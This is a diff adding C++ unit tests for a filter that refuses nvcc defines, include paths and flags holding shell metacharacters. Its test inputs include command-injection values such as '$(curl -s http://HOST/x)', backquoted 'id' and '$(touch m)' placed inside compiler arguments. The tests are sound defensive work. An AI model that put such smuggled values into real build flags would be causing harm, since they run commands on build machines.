@@ -182,3 +182,43 @@ TEST_CASE("flag filter: what NVRTC's confinement allows, the nvcc allow-list all
     CHECK(context.dropped.empty());
   }
 }
+
+// nvcc runs its steps through `sh -c` with each -D in double quotes, escaping only `"`: a `$`, a
+// backquote or a backslash in a define would run a command on the runner.
+TEST_CASE("flag filter: a define or a flag holding text a shell acts on is refused, naming it") {
+  const auto context =
+      filtered({"-DX=1$(curl -s http://HOST/x)", "-DY=`id`", "-DZ=a\\\"b", "-DW=line\nnext", "-DX($(touch m))=1",
+                "--define-macro", "V=$(id)", "-I/usr/$(id)", "-I/usr/a`b`", "-Xptxas=-v$(id)", "-DKEEP=1"});
+  CHECK(context.defines == Defines{{"KEEP", "1"}});
+  CHECK(context.include_dirs.empty());
+  CHECK(context.flags.empty());
+  REQUIRE(context.refused.size() == 9);
+  CHECK(context.refused[0] ==
+        "-DX=1$(curl -s http://HOST/x) (it holds '$', which the shell nvcc runs its steps in would act on)");
+  CHECK(context.refused[1] == "-DY=`id` (it holds a backquote, which the shell nvcc runs its steps in would act on)");
+  CHECK(context.refused[2].ends_with("(it holds a backslash, which the shell nvcc runs its steps in would act on)"));
+  CHECK(context.refused[3].ends_with("(it holds a newline, which the shell nvcc runs its steps in would act on)"));
+  CHECK(context.refused[4].starts_with("-DX($(touch m))=1 (it holds '$'"));
+  CHECK(context.refused[5].starts_with("--define-macro V=$(id) (it holds '$'"));
+  CHECK(context.refused[6].starts_with("-I/usr/$(id) (it holds '$'"));
+  CHECK(context.refused[7].starts_with("-I/usr/a`b` (it holds a backquote"));
+  CHECK(context.refused[8].starts_with("-Xptxas=-v$(id) (it holds '$'"));
+}
+
+TEST_CASE("flag filter: a function-like define's parameters must be names") {
+  const auto context = filtered({"-DF(a,b)=a+b", "-DG(a b)=1", "-DH(x)y=1"});
+  CHECK(context.defines == Defines{{"F(a,b)", "a+b"}});
+  REQUIRE(context.refused.size() == 2);
+  CHECK(context.refused[0] == "-DG(a b)=1 ('G(a b)' is not a macro name)");
+}
+
+TEST_CASE("flag filter: string-valued defines with quotes, braces, slashes and spaces keep compiling") {
+  const auto context = filtered({"-DNAME=\"{\\\"\"", "-DCONFIG=\"{a: 1, b: [2]}\"", "-DDIR=\"/opt/my dir/data\"",
+                                 "-DVERSION=\"1.2.3\"", "-DEMPTY=\"\""});
+  CHECK(context.defines == Defines{{"CONFIG", "\"{a: 1, b: [2]}\""},
+                                   {"DIR", "\"/opt/my dir/data\""},
+                                   {"VERSION", "\"1.2.3\""},
+                                   {"EMPTY", "\"\""}});
+  REQUIRE(context.refused.size() == 1);  // the one with a backslash
+  CHECK(context.refused[0].starts_with("-DNAME="));
+}
